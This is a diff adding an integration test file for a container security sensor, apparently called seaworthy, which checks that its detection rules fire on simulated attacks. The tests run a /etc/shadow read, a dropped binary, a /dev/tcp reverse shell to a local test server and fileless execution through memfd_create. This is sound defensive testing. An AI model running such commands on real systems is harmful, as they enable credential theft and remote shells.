@@ -1,0 +1,265 @@
+// `seaworthy watch` on a real machine: real containers under the real sensor, rules and record.
+import { execFile, execFileSync, spawn } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type NamingLab, namingLabMissing, openNamingLab, until } from '../naming-lab.ts';
+import { hasOptionalTool } from '../registry-process.ts';
+import { hasSensor, sensorReason } from '../sensor-watch.ts';
+import { loadShellImage, type RunningWatch, startWatching } from '../watch-lab.ts';
+import { seaworthy } from './run.ts';
+
+const run = promisify(execFile);
+const missing = sensorReason || (namingLabMissing === '' ? '' : ` (needs ${namingLabMissing})`);
+const hasPython = hasOptionalTool('python3', '--version');
+const hasScript = hasOptionalTool('script', '--version');
+
+// Needs root, libbpf, BTF and a Docker engine; what is missing stands in the title.
+describe.skipIf(!hasSensor || namingLabMissing !== '')(`watch${missing}`, () => {
+  let lab: NamingLab;
+  let shell: string;
+  let data: string;
+  let watch: RunningWatch;
+
+  beforeAll(async () => {
+    lab = openNamingLab('watch');
+    shell = `${lab.prefix}-shell:1`;
+    data = join(lab.folder, 'data');
+    loadShellImage(lab.folder, shell);
+    watch = await startWatching(['--data', data]);
+  }, 60_000);
+
+  afterAll(async () => {
+    watch.child.kill('SIGKILL');
+    lab.close();
+    execFileSync('/usr/bin/docker', ['rmi', '-f', shell], { stdio: 'ignore' });
+  });
+
+  const ask = async (...words: readonly string[]) => {
+    const { stdout } = await seaworthy([...words, '--data', data, '--format', 'json']);
+    return JSON.parse(stdout);
+  };
+  const detected = (rule: string, name: string) =>
+    watch.find((line) => {
+      const container = line['container'] as { readonly name: string } | null | undefined;
+      return line.kind === 'detection' && line['rule'] === rule && container?.name === name;
+    });
+  const over = (name: string) =>
+    watch.find(
+      (line) => line.kind === 'container' && line['name'] === name && line['action'] === 'ended',
+    );
+  const inShell = (name: string, script: string, ...options: readonly string[]) =>
+    lab.docker(
+      ...['run', '--rm', '--name', name, '--network', 'none', ...options, shell],
+      ...['/bin/bash', '-c', script],
+    );
+
+  test('everything is seen here', () => {
+    expect(watch.stderr()).toContain('watching processes, files, connections, containers');
+  });
+
+  test('a container that lives for a blink is named before its start and kept', async () => {
+    const name = `${lab.prefix}-blink`;
+    await lab
+      .docker('run', '--name', name, '--network', 'none', lab.reference, '/bin/seven')
+      .catch(() => undefined);
+    const ended = await over(name);
+    expect(ended).toMatchObject({ exitCode: 7, namedBeforeStart: true });
+    await until(async () => (await ask('containers', '--name', name)).length === 1);
+    const [found] = await ask('containers', '--name', name);
+    expect(found).toMatchObject({
+      name,
+      image: { id: lab.imageId },
+      namedBeforeStart: true,
+      exitCode: 7,
+      running: false,
+    });
+    expect(Date.parse(found.endedAt)).toBeGreaterThanOrEqual(Date.parse(found.startedAt));
+    await lab.docker('rm', '-f', name);
+  });
+
+  test('an intruder: hashes read, a program dropped and started; the timeline tells it', async () => {
+    const name = `${lab.prefix}-drift`;
+    await inShell(
+      name,
+      'cat /etc/shadow; cp /bin/true /tmp/dropped; chmod 755 /tmp/dropped; /tmp/dropped; echo x > /etc/evil; true',
+    );
+    await detected('Password hashes read in a container', name);
+    const drift = await detected('Program that is not of the image started', name);
+    expect(drift).toMatchObject({
+      priority: 'Critical',
+      source: 'syscall',
+      chain: expect.stringMatching(/^docker run -> bash/),
+      output_fields: { 'container.name': name, 'proc.exepath': '/tmp/dropped' },
+    });
+    expect(drift['output']).toContain(name);
+    await over(name);
+    await until(async () => (await ask('timeline', name)).detections.length >= 2);
+    const told = await ask('timeline', name);
+    const [root] = told.processes;
+    expect(root.programs[0].arguments.slice(0, 2)).toEqual(['/bin/bash', '-c']);
+    const below = root.children.flatMap(
+      (child: { programs: { path: string }[] }) => child.programs,
+    );
+    const dropped = below.find(({ path }: { path: string }) => path === '/tmp/dropped');
+    expect(dropped).toMatchObject({ fromOwnLayer: true });
+    expect(JSON.stringify(told.files)).toContain('/etc/evil');
+    expect(told.container).toMatchObject({ exitCode: 0 });
+  });
+
+  test.skipIf(!hasScript)('a person in a running container', async () => {
+    const name = `${lab.prefix}-person`;
+    await lab.docker(
+      'run',
+      '-d',
+      '--rm',
+      '--name',
+      name,
+      '--network',
+      'none',
+      shell,
+      '/bin/sleep',
+      '60',
+    );
+    await run('script', ['-qc', `/usr/bin/docker exec -t ${name} /bin/bash -c true`, '/dev/null']);
+    const { chain } = await detected('Shell with a terminal attached to a container', name);
+    expect(chain).toBe('docker exec -> bash');
+    await lab.docker('rm', '-f', name);
+  });
+
+  test('a shell on a connection, and the flow with its bytes', async () => {
+    const name = `${lab.prefix}-reverse`;
+    const server = createServer((socket) => {
+      socket.on('data', () => undefined);
+      socket.end('echo four\n');
+    }).listen(0, '127.0.0.1');
+    await until(() => server.listening);
+    const { port } = server.address() as { readonly port: number };
+    await lab.docker(
+      ...['run', '--rm', '--name', name, '--network', 'host', shell, '/bin/bash', '-c'],
+      `exec 3<>/dev/tcp/127.0.0.1/${port}; /bin/sh <&3 >&3; true`,
+    );
+    server.close();
+    const { output_fields: fields } = await detected('Shell started on a network connection', name);
+    expect((fields as Record<string, string>)['proc.stdin.name']).toContain(`->127.0.0.1:${port}`);
+    await over(name);
+    await until(async () => (await ask('timeline', name)).flows.length > 0);
+    const { flows } = await ask('timeline', name);
+    expect(JSON.stringify(flows)).toContain(`${port}`);
+    // `echo four` came in, `four` went out.
+    expect(JSON.stringify(flows)).toMatch(/"(?:received|bytesReceived)":10/);
+    expect(JSON.stringify(flows)).toMatch(/"(?:sent|bytesSent)":5/);
+  });
+
+  test.skipIf(!hasPython)('a program without a file', async () => {
+    const source = `import os
+fd = os.memfd_create("x")
+os.write(fd, open("/bin/true", "rb").read())
+os.execve(fd, ["ghost"], {})`;
+    await run('python3', ['-c', source]);
+    const found = await watch.find(
+      (line) => line.kind === 'detection' && line['rule'] === 'Program started from memory',
+    );
+    expect(found).toMatchObject({ container: null });
+  });
+
+  test('a container among the processes of the host is a container all the same', async () => {
+    const name = `${lab.prefix}-pids`;
+    await inShell(name, 'cat /etc/shadow; exit 4', '--pid', 'host').catch(() => undefined);
+    expect(await over(name)).toMatchObject({ exitCode: 4, namedBeforeStart: true });
+    await detected('Password hashes read in a container', name);
+  });
+
+  test('killed in a storm: what nobody saw is a gap with its bounds', async () => {
+    const name = `${lab.prefix}-storm`;
+    await lab.docker(
+      ...['run', '-d', '--rm', '--name', name, '--network', 'none', shell, '/bin/bash', '-c'],
+      'while /bin/true; do /bin/true; done',
+    );
+    await until(() =>
+      watch.lines.some((line) => line['name'] === name && line['action'] === 'started'),
+    );
+    const exited = new Promise((resolve) => watch.child.once('exit', resolve));
+    watch.child.kill('SIGKILL');
+    await exited;
+    const before = Date.now();
+    watch = await startWatching(['--data', data]);
+    await until(async () => (await ask('timeline', name)).losses.length > 0);
+    await lab.docker('rm', '-f', name);
+    const { losses, processes } = await ask('timeline', name);
+    const gap = losses.find(({ what }: { what: string }) => what === 'all');
+    expect(Date.parse(gap.from)).toBeLessThanOrEqual(before);
+    expect(Date.parse(gap.to)).toBeGreaterThanOrEqual(before);
+    expect(processes.length).toBeGreaterThan(0);
+  });
+
+  test('Ctrl-C ends it cleanly: no gap for the next', async () => {
+    expect(await watch.stop()).toBe(0);
+    watch = await startWatching(['--data', data, '--no-record']);
+    expect(watch.stderr()).toContain('not recorded');
+  });
+
+  test('a broken rule file changes nothing but a line', async () => {
+    const rules = join(lab.folder, 'rules.yaml');
+    const rule = (condition: string) => `
+- rule: Probe
+  desc: a probe of this test
+  condition: ${condition}
+  output: probe %proc.name
+  priority: NOTICE
+`;
+    const probes = (other: RunningWatch) =>
+      other.lines.filter((line) => line['rule'] === 'Probe').length;
+    writeFileSync(rules, rule('evt.type = execve and proc.cmdline contains seaworthy-probe-1'));
+    const other = await startWatching(['--no-record', '--rules', rules]);
+    try {
+      writeFileSync(rules, rule('evt.type = = execve'));
+      await until(() => other.stderr().includes('the rules stay as they were'));
+      await run('/bin/cat', ['seaworthy-probe-1']).catch(() => undefined);
+      await until(() => probes(other) === 1);
+      writeFileSync(rules, rule('evt.type = execve and proc.cmdline contains seaworthy-probe-2'));
+      await until(() => other.stderr().includes('the rules were read again'));
+      await run('/bin/cat', ['seaworthy-probe-2']).catch(() => undefined);
+      await until(() => probes(other) === 2);
+    } finally {
+      await other.stop();
+    }
+    const refused = await seaworthy(['watch', '--rules', join(lab.folder, 'none.yaml')]);
+    expect(refused).toMatchObject({ code: 3 });
+  });
+
+  test('without libbpf it says what is not seen, and follows the engine', async () => {
+    const broken = join(lab.folder, 'libbpf.so.1');
+    writeFileSync(broken, 'no library');
+    const other = await startWatching(['--no-record'], { LD_LIBRARY_PATH: lab.folder });
+    try {
+      expect(other.stderr()).toMatch(/libbpf/);
+      expect(other.stderr()).toContain('not seen are programs, files, connections');
+      const name = `${lab.prefix}-blind`;
+      await lab
+        .docker('run', '--rm', '--name', name, '--network', 'none', lab.reference, '/bin/seven')
+        .catch(() => undefined);
+      const ended = await other.find((line) => line['name'] === name && line['action'] === 'ended');
+      expect(ended).toMatchObject({ exitCode: 7 });
+    } finally {
+      await other.stop();
+    }
+  });
+
+  test('without rights it says so, and what is left', async () => {
+    const launcher = join(import.meta.dirname, '../../bin/seaworthy');
+    const words = ['--bounding-set=-all', '--inh-caps=-all', launcher, 'watch', '--no-record'];
+    const child = spawn('setpriv', [...words, '--for', '8s'], {
+      stdio: ['ignore', 'ignore', 'pipe'],
+    });
+    let stderr = '';
+    child.stderr.on('data', (chunk) => (stderr += chunk));
+    const code = await new Promise((resolve) => child.on('close', resolve));
+    expect(stderr).toContain('no right to load BPF programs');
+    expect(stderr).toContain('not seen are programs');
+    expect(stderr).toContain('watching containers');
+    expect(code).toBe(0);
+  });
+});
